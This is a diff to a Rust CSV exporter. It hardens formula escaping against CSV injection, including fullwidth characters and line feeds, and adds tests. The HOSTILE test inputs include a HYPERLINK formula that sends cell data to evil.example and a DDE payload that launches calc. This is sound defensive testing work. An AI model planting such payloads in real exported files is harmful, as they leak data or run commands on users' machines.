@@ -7,7 +7,9 @@
 //! through any standard CSV reader.
 //!
 //! Formula escaping (OWASP "CSV Injection"): a cell that starts with `=`,
-//! `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe, so
+//! `+`, `-`, `@`, their fullwidth forms `＝` `＋` `－` `＠` (U+FF1D, U+FF0B,
+//! U+FF0D, U+FF20, which some spreadsheets read as the ASCII ones), a tab,
+//! a carriage return or a line feed gets a leading apostrophe, so
 //! a spreadsheet shows it as text instead of evaluating it. A cell that
 //! already starts with an apostrophe gets one more, which keeps the rule
 //! reversible: to recover the original value, remove one leading
@@ -40,7 +42,10 @@ pub const COLUMNS: [&str; 18] = [
 /// Makes `value` safe to open in a spreadsheet (see the module comment).
 pub fn escape_cell(value: &str) -> std::borrow::Cow<'_, str> {
     match value.chars().next() {
-        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{value}").into(),
+        Some(
+            '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '\'' | '\u{FF1D}' | '\u{FF0B}'
+            | '\u{FF0D}' | '\u{FF20}',
+        ) => format!("'{value}").into(),
         _ => value.into(),
     }
 }
@@ -98,7 +103,12 @@ mod tests {
     use super::*;
     use crate::export::tests::finding;
 
-    const HOSTILE: [&str; 12] = [
+    const HOSTILE: [&str; 17] = [
+        "\n=1+1",
+        "\u{FF1D}HYPERLINK(\"http://evil.example\")",
+        "\u{FF0B}1",
+        "\u{FF0D}cmd",
+        "\u{FF20}SUM(1+1)",
         "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
         "@SUM(1+1)*cmd|' /C calc'!A0",
         "+1",
@@ -130,6 +140,12 @@ mod tests {
         assert_eq!(escape_cell("@SUM(A1)"), "'@SUM(A1)");
         assert_eq!(escape_cell("\tx"), "'\tx");
         assert_eq!(escape_cell("\rx"), "'\rx");
+        assert_eq!(escape_cell("\nx"), "'\nx");
+        assert_eq!(escape_cell("\u{FF1D}1+1"), "'\u{FF1D}1+1");
+        assert_eq!(escape_cell("\u{FF0B}1"), "'\u{FF0B}1");
+        assert_eq!(escape_cell("\u{FF0D}1"), "'\u{FF0D}1");
+        assert_eq!(escape_cell("\u{FF20}x"), "'\u{FF20}x");
+        assert_eq!(escape_cell("a\nb"), "a\nb");
         assert_eq!(escape_cell("'x"), "''x");
         assert_eq!(escape_cell("kubectl"), "kubectl");
         assert_eq!(escape_cell("a=b"), "a=b");
@@ -161,7 +177,10 @@ mod tests {
             for (cell, col) in row.iter().zip(COLUMNS) {
                 // No cell a spreadsheet would evaluate.
                 assert!(
-                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    !cell.starts_with([
+                        '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}',
+                        '\u{FF20}'
+                    ]),
                     "{col}: {cell:?}"
                 );
                 assert_eq!(unescape_cell(cell), column(f, col), "{col}");
